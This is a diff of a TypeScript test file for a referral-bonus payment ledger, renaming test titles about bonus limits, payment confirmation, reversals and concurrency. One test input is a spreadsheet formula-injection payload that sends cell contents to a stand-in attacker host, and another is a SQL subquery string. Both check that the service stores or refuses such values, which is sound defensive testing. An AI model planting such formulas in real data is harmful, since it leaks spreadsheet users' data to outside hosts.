@@ -90,7 +90,7 @@ describe('a bonus', () => {
     [1e21, 'Please enter a smaller amount'],
     ['3000', 'Referral bonus must be at least $1'],
     [null, 'Referral bonus amount is required when offering a bonus'],
-  ])('of %p is refused with a sentence, and nothing is offered', async (amount, sentence) => {
+  ])('a bonus of %p is refused in a sentence, and nothing is offered', async (amount, sentence) => {
     expect(await unchanged(() => offer(amount))).toEqual([400, sentence])
     expect(await app.db.$count(jobs, eq(jobs.companyId, company.id))).toBe(0)
   })
@@ -101,7 +101,7 @@ describe('a bonus', () => {
     [3, 300, 75],
     [DOLLARS_MAX - 1, (DOLLARS_MAX - 1) * 100, (DOLLARS_MAX - 1) * 25],
     [DOLLARS_MAX, DOLLARS_MAX * 100, DOLLARS_MAX * 25],
-  ])('of %i dollars is owed to the cent', async (amount, gross, share) => {
+  ])('a bonus of %i dollars is owed to the cent', async (amount, gross, share) => {
     expect((await offer(amount))[0]).toBe(201)
     const [job] = await app.db.select().from(jobs).where(eq(jobs.companyId, company.id))
     if (!job) throw new Error('There is no job.')
@@ -116,7 +116,7 @@ describe('a bonus', () => {
     expect(await checkLedger(owner)).toEqual([])
   })
 
-  test.each(['0', '-1', '0.5', "'0.005'", '1.5'])('of %s cents is no transfer', async (amount) => {
+  test.each(['0', '-1', '0.5', "'0.005'", '1.5'])('a transfer of %s cents is refused', async (amount) => {
     const { id, companyId, recommenderId } = await hire()
     const refused = await unchanged(() =>
       owner
@@ -133,13 +133,13 @@ describe('a bonus', () => {
   })
 })
 
-describe('"paid"', () => {
-  test('by a stranger is of no row that they know', async () => {
+describe('confirming a payment', () => {
+  test('a stranger cannot confirm a payment', async () => {
     const { id } = await hire(['due'])
     expect(await unchanged(() => post(stranger, id, 'paid', REFERENCE))).toEqual([404, 'There is no such row.'])
   })
 
-  test('twice is refused the second time, also at once', async () => {
+  test('a second confirmation is refused, even a concurrent one', async () => {
     const { id } = await hire(['due'])
     const answers = await Promise.all([1, 2].map(() => post(manager, id, 'paid', REFERENCE)))
     expect(answers.map(([status]) => status).sort()).toEqual([200, 409])
@@ -148,13 +148,13 @@ describe('"paid"', () => {
     expect(await app.db.$count(transfers, sql`reward_id = ${id} and kind = 'paid'`)).toBe(1)
   })
 
-  test('before it is due is refused', async () => {
+  test('a payment before it is due is refused', async () => {
     const { id } = await hire()
     const sentence = 'This is not due yet: nothing is to be paid before.'
     expect(await unchanged(() => post(manager, id, 'paid', REFERENCE))).toEqual([409, sentence])
   })
 
-  test('with a formula for a reference is kept as it was typed, and a text in the CSV', async () => {
+  test('a formula as payment reference is stored verbatim and is text in the CSV', async () => {
     const { id } = await hire(['due'])
     const reference = '=HYPERLINK("https://evil.example?"&A1,"Invoice")'
     expect((await post(manager, id, 'paid', { reference }))[0]).toBe(200)
@@ -165,8 +165,8 @@ describe('"paid"', () => {
   })
 })
 
-describe('a reversal', () => {
-  test('of a reversal is refused: there is nothing left to take back', async () => {
+describe('reversing a transfer', () => {
+  test('a reversal of a reversal is refused', async () => {
     const { id } = await hire(['reversed'])
     const said = { reason: 'It was a mistake.' }
     const answers = await unchanged(async () => [
@@ -191,7 +191,7 @@ describe('a reversal', () => {
       `(select id from transfers where reward_id = $2 and kind = 'promised' order by id limit 1)`,
       '225000',
     ],
-  ])('that names %s is no transfer, whoever writes it', async (_, named, amount) => {
+  ])('a reversal that names %s is refused, whoever writes it', async (_, named, amount) => {
     const [reversed, due] = [await hire(['reversed']), await hire(['due'])]
     const refused = await unchanged(() =>
       owner
@@ -208,7 +208,7 @@ describe('a reversal', () => {
     expect(refused).toBe('a reversal takes back what was promised, and all of it')
   })
 
-  test('of a part of what was promised is no transfer', async () => {
+  test('a partial reversal is refused', async () => {
     const { id } = await hire()
     const refused = await unchanged(() =>
       owner
@@ -226,7 +226,7 @@ describe('a reversal', () => {
   })
 })
 
-test('two operators who decide at once decide once, and the other one is told', async () => {
+test('of two operators deciding at once one wins, and the other is refused', async () => {
   const otto = await app.signIn(null, { email: 'otto@example.org' })
   const { id } = await hire(['due'])
   await post(recommender, id, 'dispute', { reason: 'I was promised more.' })
@@ -248,7 +248,7 @@ test('two operators who decide at once decide once, and the other one is told', 
   expect(await checkLedger(owner)).toEqual([])
 })
 
-test('a company that is erased while it owes takes nothing with it', async () => {
+test('erasing a company in debt leaves its ledger entries', async () => {
   const [held, due] = [await hire(), await hire(['due'])]
   const before = await all()
   await app.db.delete(companies).where(eq(companies.id, company.id))
